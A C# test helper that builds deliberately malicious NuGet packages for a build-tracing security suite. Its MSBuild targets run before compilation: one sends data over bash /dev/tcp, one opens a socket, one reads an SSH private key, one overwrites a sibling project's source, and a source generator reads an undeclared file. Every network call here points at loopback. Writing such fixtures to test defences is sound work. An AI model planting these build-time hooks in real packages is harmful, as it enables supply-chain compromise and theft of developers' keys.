using System.IO.Compression;
using System.Text;

namespace SecureBuild.Tracing.Tests;

/// <summary>
/// Deliberately malicious packages for the trace tests, written as .nupkg files (a nuspec and one build/*.targets each)
/// into a local feed: no `dotnet pack` needed. Each package's targets run before CoreCompile of the project that
/// references it.
/// </summary>
internal static class MaliciousFeed
{
    /// <summary>(a) a .targets whose Exec runs bash's /dev/tcp against a listener on 127.0.0.1.</summary>
    public const string Curl = """
        <Project>
          <Target Name="EvilCurl" BeforeTargets="CoreCompile">
            <Exec Command="bash -c 'echo stolen &gt; /dev/tcp/127.0.0.1/$(EvilPort)' || true" />
          </Target>
        </Project>
        """;

    /// <summary>(b) an inline RoslynCodeTaskFactory task that opens a TcpClient to loopback inside the MSBuild node.</summary>
    public const string Socket = """
        <Project>
          <UsingTask TaskName="EvilSocket" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)/Microsoft.Build.Tasks.Core.dll">
            <ParameterGroup><Port ParameterType="System.Int32" Required="true" /></ParameterGroup>
            <Task>
              <Code Type="Fragment" Language="cs"><![CDATA[
                try { using (var client = new System.Net.Sockets.TcpClient()) { client.Connect("127.0.0.1", Port); } } catch (System.Exception) { }
              ]]></Code>
            </Task>
          </UsingTask>
          <Target Name="EvilSocketTarget" BeforeTargets="CoreCompile">
            <EvilSocket Port="$(EvilPort)" />
          </Target>
        </Project>
        """;

    /// <summary>(c) a target that reads ~/.ssh/id_ed25519.</summary>
    public const string Ssh = """
        <Project>
          <Target Name="EvilSsh" BeforeTargets="CoreCompile">
            <ReadLinesFromFile File="$(HOME)/.ssh/id_ed25519" ContinueOnError="true">
              <Output TaskParameter="Lines" ItemName="_EvilKey" />
            </ReadLinesFromFile>
          </Target>
        </Project>
        """;

    /// <summary>(d) a target that writes into a sibling project's sources.</summary>
    public const string Sibling = """
        <Project>
          <Target Name="EvilSibling" BeforeTargets="CoreCompile">
            <WriteLinesToFile File="$(MSBuildProjectDirectory)/../Lib/Injected.cs" Lines="// injected" Overwrite="true" ContinueOnError="true" />
          </Target>
        </Project>
        """;

    public static readonly IReadOnlyDictionary<string, string> Packages = new Dictionary<string, string>
    {
        ["Evil.Curl"] = Curl,
        ["Evil.Socket"] = Socket,
        ["Evil.Ssh"] = Ssh,
        ["Evil.Sibling"] = Sibling,
    };

    /// <summary>(e) the id of the package with a source generator that reads a file no one declared.</summary>
    public const string Generator = "Evil.Generator";

    /// <summary>Writes every package into <paramref name="feed"/> as &lt;id&gt;.1.0.0.nupkg; the generator reads <paramref name="undeclaredFile"/>.</summary>
    public static void Write(string feed, string undeclaredFile)
    {
        Directory.CreateDirectory(feed);
        foreach (var (id, targets) in Packages)
        {
            WritePackage(feed, id, new Dictionary<string, string> { [$"build/{id}.targets"] = targets });
        }
        WritePackage(feed, Generator, new Dictionary<string, string>(),
            new Dictionary<string, byte[]> { [$"analyzers/dotnet/cs/{Generator}.dll"] = CompileGenerator(undeclaredFile) });
    }

    /// <summary>A source generator that reads <paramref name="path"/> while the compiler runs it.</summary>
    private static byte[] CompileGenerator(string path)
    {
        string source = $$"""
            using Microsoft.CodeAnalysis;
            [Generator]
            public sealed class EvilGenerator : IIncrementalGenerator
            {
                public void Initialize(IncrementalGeneratorInitializationContext context)
                {
                    context.RegisterPostInitializationOutput(c =>
                    {
                        string text = "";
                        try { text = System.IO.File.ReadAllText({{Microsoft.CodeAnalysis.CSharp.SymbolDisplay.FormatLiteral(path, quote: true)}}); } catch (System.Exception) { }
                        c.AddSource("Evil.g.cs", "internal static class EvilData { public const int Length = " + text.Length + "; }");
                    });
                }
            }
            """;
        var references = ((string)AppContext.GetData("TRUSTED_PLATFORM_ASSEMBLIES")!).Split(Path.PathSeparator)
            .Where(p => Path.GetFileName(p).StartsWith("System.", StringComparison.Ordinal) || Path.GetFileName(p) is "netstandard.dll" or "mscorlib.dll")
            .Append(typeof(Microsoft.CodeAnalysis.IIncrementalGenerator).Assembly.Location)
            .Select(p => Microsoft.CodeAnalysis.MetadataReference.CreateFromFile(p));
        var compilation = Microsoft.CodeAnalysis.CSharp.CSharpCompilation.Create(Generator,
            new[] { Microsoft.CodeAnalysis.CSharp.CSharpSyntaxTree.ParseText(source) }, references,
            new Microsoft.CodeAnalysis.CSharp.CSharpCompilationOptions(Microsoft.CodeAnalysis.OutputKind.DynamicallyLinkedLibrary));
        using var stream = new MemoryStream();
        var result = compilation.Emit(stream);
        if (!result.Success)
        {
            throw new InvalidOperationException(string.Join("\n", result.Diagnostics));
        }
        return stream.ToArray();
    }

    public static void WritePackage(string feed, string id, IReadOnlyDictionary<string, string> files, IReadOnlyDictionary<string, byte[]>? binaries = null)
    {
        using var zip = ZipFile.Open(Path.Combine(feed, $"{id}.1.0.0.nupkg"), ZipArchiveMode.Create);
        Add(zip, $"{id}.nuspec", $"""
            <?xml version="1.0" encoding="utf-8"?>
            <package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd">
              <metadata><id>{id}</id><version>1.0.0</version><authors>tests</authors><description>A malicious package for the trace tests.</description><developmentDependency>true</developmentDependency></metadata>
            </package>
            """);
        Add(zip, "[Content_Types].xml", """
            <?xml version="1.0" encoding="utf-8"?>
            <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="nuspec" ContentType="application/octet" /><Default Extension="targets" ContentType="application/octet" /><Default Extension="dll" ContentType="application/octet" /></Types>
            """);
        foreach (var (name, text) in files)
        {
            Add(zip, name, text);
        }
        foreach (var (name, bytes) in binaries ?? new Dictionary<string, byte[]>())
        {
            using var stream = zip.CreateEntry(name).Open();
            stream.Write(bytes);
        }
    }

    private static void Add(ZipArchive zip, string name, string text)
    {
        using var stream = zip.CreateEntry(name).Open();
        stream.Write(Encoding.UTF8.GetBytes(text));
    }
}
